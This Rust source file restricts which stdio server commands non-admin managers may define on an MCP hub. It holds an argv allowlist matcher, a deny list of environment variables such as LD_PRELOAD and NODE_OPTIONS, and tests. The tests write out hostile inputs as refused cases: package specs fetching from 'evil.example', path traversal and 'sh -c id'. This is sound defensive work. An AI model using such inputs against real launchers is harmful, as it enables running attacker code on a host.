//! Who may define what a stdio server runs. A stdio server is a command on the hub's host, so
//! defining one is host access: only admins (and the bootstrap admin token, and the operator's
//! servers file) may set a stdio server's `command`, `args`, `env` or `cwd` freely. Managers
//! add remote servers, or stdio servers whose argv starts with a launcher on the admin-defined
//! allowlist (`--stdio-allow`), without `cwd` and without environment variables that change
//! what runs.
//!
//! An allowlist entry is words separated by whitespace, matched against the argv prefix word
//! for word: the first word is the command and must be equal to it; each further word must
//! match the argument at the same position, where `*` stands for a run of characters of a
//! package name (`A-Z a-z 0-9 . _ - @`, never `/`, `:` or anything else, and never an argument
//! that starts with `-`). Positions are exact: `npx @modelcontextprotocol/*` does not match
//! `npx -y @modelcontextprotocol/server-memory`; list `-y` in the entry
//! (`npx -y @modelcontextprotocol/*`) to allow it. Arguments after the prefix are free (they
//! go to the launched package, e.g. the directory of a filesystem server).

use std::collections::BTreeMap;

use switchboard_core::config::TransportSpec;
use switchboard_store::TransportRecord;

use crate::{ControlError, Principal};

/// Environment variables a manager may not set on an allowlisted stdio server: they change
/// which program runs, what it loads, or where its package manager fetches code from.
pub const REFUSED_ENV: &[&str] = &[
    "PATH",
    "HOME",
    "SHELL",
    "ENV",
    "BASH_ENV",
    "IFS",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "RUBYLIB",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
];

/// Prefixes of refused environment variables (compared case-insensitively, like the names).
pub const REFUSED_ENV_PREFIXES: &[&str] = &[
    "LD_",
    "DYLD_",
    "NODE_",
    "NPM_",
    "COREPACK_",
    "BUN_",
    "DENO_",
    "PYTHON",
    "PIP_",
    "UV_",
    "XDG_",
    "GIT_",
];

/// True when a manager may not set `key` on a stdio server.
pub fn env_key_refused(key: &str) -> bool {
    let upper = key.to_ascii_uppercase();
    REFUSED_ENV.contains(&upper.as_str())
        || REFUSED_ENV_PREFIXES.iter().any(|p| upper.starts_with(p))
}

/// What a caller may launch as a stdio server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpawnRight {
    /// Any command (admins, the admin token, the servers file).
    Any,
    /// Only argv prefixes on the allowlist, without `cwd` or refused env keys (managers).
    Allowlisted,
}

/// Who makes a change: the name the store records and what they may launch.
#[derive(Debug, Clone)]
pub struct Actor {
    /// Recorded as `created_by` / `updated_by`.
    pub name: String,
    /// What they may launch.
    pub spawn: SpawnRight,
}

impl Actor {
    /// The actor for an authenticated principal: admins may launch anything.
    pub fn of(p: &Principal) -> Actor {
        Actor {
            name: p.actor(),
            spawn: if p.is_admin() {
                SpawnRight::Any
            } else {
                SpawnRight::Allowlisted
            },
        }
    }

    /// The operator's servers file (trusted).
    pub fn servers_file() -> Actor {
        Actor {
            name: crate::SERVERS_FILE_ACTOR.to_string(),
            spawn: SpawnRight::Any,
        }
    }
}

/// One allowed launcher: the entry as written and its words.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Launcher {
    text: String,
    words: Vec<String>,
}

/// The launchers managers may use (`--stdio-allow`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StdioAllowlist {
    launchers: Vec<Launcher>,
}

impl StdioAllowlist {
    /// Parses entries such as `npx -y @modelcontextprotocol/*` or `uvx mcp-server-*`.
    pub fn parse<S: AsRef<str>>(entries: &[S]) -> Result<StdioAllowlist, String> {
        let mut launchers = Vec::new();
        for entry in entries.iter().map(AsRef::as_ref) {
            let words: Vec<String> = entry.split_whitespace().map(str::to_string).collect();
            let Some(command) = words.first() else {
                continue;
            };
            if command.contains('*') {
                return Err(format!(
                    "--stdio-allow {entry:?}: the command (first word) must be written out, \
                     without `*`"
                ));
            }
            launchers.push(Launcher {
                text: words.join(" "),
                words,
            });
        }
        Ok(StdioAllowlist { launchers })
    }

    /// The entries, normalised (single spaces).
    pub fn entries(&self) -> Vec<String> {
        self.launchers.iter().map(|l| l.text.clone()).collect()
    }

    /// True when `command args…` starts with an allowed launcher.
    pub fn allows(&self, command: &str, args: &[String]) -> bool {
        self.launchers.iter().any(|l| {
            let (first, rest) = l.words.split_first().expect("entries have a command");
            first == command
                && rest.len() <= args.len()
                && rest.iter().zip(args).all(|(w, a)| word_matches(w, a))
        })
    }

    /// What managers may do, for refusal messages.
    pub fn describe(&self) -> String {
        if self.launchers.is_empty() {
            "no launchers are allowed (an admin can allow some with --stdio-allow)".into()
        } else {
            format!(
                "allowed launchers (argv prefixes): {}; without cwd and without env keys such \
                 as PATH, LD_*, DYLD_*, NODE_*, PYTHON*",
                self.entries()
                    .iter()
                    .map(|e| format!("{e:?}"))
                    .collect::<Vec<_>>()
                    .join(", ")
            )
        }
    }
}

/// A character a `*` may stand for: those of package names and versions.
fn glob_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '@')
}

/// `pattern` against one argument: literal except for `*` (a run of package-name characters).
fn word_matches(pattern: &str, arg: &str) -> bool {
    if !pattern.contains('*') {
        return pattern == arg;
    }
    if arg.starts_with('-') && !pattern.starts_with('-') {
        return false;
    }
    glob(pattern.as_bytes(), arg.as_bytes())
}

fn glob(p: &[u8], a: &[u8]) -> bool {
    match p.split_first() {
        None => a.is_empty(),
        Some((b'*', rest)) => (0..=a.len())
            .take_while(|&n| n == 0 || glob_char(char::from(a[n - 1])))
            .any(|n| glob(rest, &a[n..])),
        Some((c, rest)) => a.first() == Some(c) && glob(rest, &a[1..]),
    }
}

/// What a stdio definition runs, for comparing an update with the stored server.
#[derive(PartialEq)]
struct Launch<'a> {
    command: &'a str,
    args: &'a [String],
    env: &'a BTreeMap<String, String>,
    cwd: Option<String>,
}

fn launch_of_spec(t: &TransportSpec) -> Option<Launch<'_>> {
    match t {
        TransportSpec::Stdio {
            command,
            args,
            env,
            cwd,
            ..
        } => Some(Launch {
            command,
            args,
            env,
            cwd: cwd.as_ref().map(|c| c.display().to_string()),
        }),
        _ => None,
    }
}

fn launch_of_record(t: &TransportRecord) -> Option<Launch<'_>> {
    match t {
        TransportRecord::Stdio {
            command,
            args,
            env,
            cwd,
        } => Some(Launch {
            command,
            args,
            env,
            cwd: cwd.clone(),
        }),
        _ => None,
    }
}

/// Refuses a stdio definition `actor` may not make. `old` is the stored server an update
/// replaces: keeping its command, args, env and cwd exactly is always allowed (a manager may
/// change an admin's server's timeout or session mode).
pub fn check_spawn(
    actor: &Actor,
    allow: &StdioAllowlist,
    name: &str,
    new: &TransportSpec,
    old: Option<&TransportRecord>,
) -> Result<(), ControlError> {
    let Some(launch) = launch_of_spec(new) else {
        return Ok(());
    };
    if actor.spawn == SpawnRight::Any || old.and_then(launch_of_record).as_ref() == Some(&launch) {
        return Ok(());
    }
    let refuse = |why: String| {
        tracing::warn!(message = "Refused a stdio server definition.", server = %name, actor = %actor.name, reason = %why);
        Err(ControlError::StdioForbidden(format!(
            "{name:?}: {why}. Only admins may define a stdio server's command, args, env or \
             cwd; managers may add remote servers (a url), or stdio servers that use an \
             allowed launcher: {}",
            allow.describe()
        )))
    };
    if launch.cwd.is_some() {
        return refuse("cwd may not be set".into());
    }
    if !allow.allows(launch.command, launch.args) {
        let argv: Vec<&str> = std::iter::once(launch.command)
            .chain(launch.args.iter().map(String::as_str))
            .collect();
        return refuse(format!("{argv:?} matches no allowed launcher"));
    }
    if let Some(key) = launch.env.keys().find(|k| env_key_refused(k)) {
        return refuse(format!("the environment variable {key:?} may not be set"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(words: &str) -> (String, Vec<String>) {
        let mut w = words.split(' ').map(str::to_string);
        (w.next().unwrap(), w.collect())
    }

    #[test]
    fn launchers_match_the_argv_prefix_word_for_word() {
        let allow = StdioAllowlist::parse(&["npx -y  @modelcontextprotocol/*", "uvx mcp-server-*"])
            .unwrap();
        assert_eq!(
            allow.entries(),
            ["npx -y @modelcontextprotocol/*", "uvx mcp-server-*"]
        );
        for ok in [
            "npx -y @modelcontextprotocol/server-filesystem /tmp",
            "npx -y @modelcontextprotocol/server-memory@2025.4.25",
            "uvx mcp-server-fetch",
            "uvx mcp-server-git --repository /srv/repo",
        ] {
            let (c, a) = argv(ok);
            assert!(allow.allows(&c, &a), "{ok}");
        }
        for refused in [
            "npx @modelcontextprotocol/server-memory",
            "npx -y @modelcontextprotocol/x@git+https://evil.example/r.git",
            "npx -y @modelcontextprotocol/x@npm:evil",
            "npx -y @modelcontextprotocol/x/../../evil",
            "npx -y @other/server",
            "npx -y",
            "/usr/bin/npx -y @modelcontextprotocol/server-memory",
            "npx -c id",
            "uvx --from git+https://evil mcp-server-x",
            "uvx mcp-server-x:evil",
            "uvx mcp-server-x/evil",
            "sh -c id",
        ] {
            let (c, a) = argv(refused);
            assert!(!allow.allows(&c, &a), "{refused}");
        }
        let star = StdioAllowlist::parse(&["npx -y *"]).unwrap();
        let (c, a) = argv("npx -y -c id");
        assert!(!star.allows(&c, &a), "a glob never matches an option");
        assert!(StdioAllowlist::parse(&["np* x"]).is_err());
    }

    #[test]
    fn env_keys_that_change_what_runs_are_refused() {
        for k in [
            "PATH",
            "path",
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "DYLD_INSERT_LIBRARIES",
            "NODE_OPTIONS",
            "npm_config_registry",
            "PYTHONPATH",
            "UV_INDEX_URL",
            "BASH_ENV",
        ] {
            assert!(env_key_refused(k), "{k}");
        }
        for k in ["GITHUB_TOKEN", "BRAVE_API_KEY", "API_KEY", "LOG_LEVEL"] {
            assert!(!env_key_refused(k), "{k}");
        }
    }
}
